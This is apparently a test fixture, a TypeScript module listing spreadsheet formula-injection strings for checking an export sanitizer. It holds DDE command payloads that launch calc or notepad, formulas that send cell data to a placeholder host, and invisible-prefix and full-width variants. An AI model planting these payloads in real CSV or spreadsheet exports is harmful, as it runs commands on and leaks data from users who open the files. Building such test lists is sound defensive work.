const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"open")',
  '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  '=WEBSERVICE("http://example.org")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C notepad'!A1",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '|calc',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
] as const;

const LEADS = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b'] as const;

/** Texts that spreadsheet programs would run: each formula behind each lead they skip. More than 100. */
export const INJECTIONS: readonly string[] = FORMULAS.flatMap((formula) => LEADS.map((lead) => lead + formula));
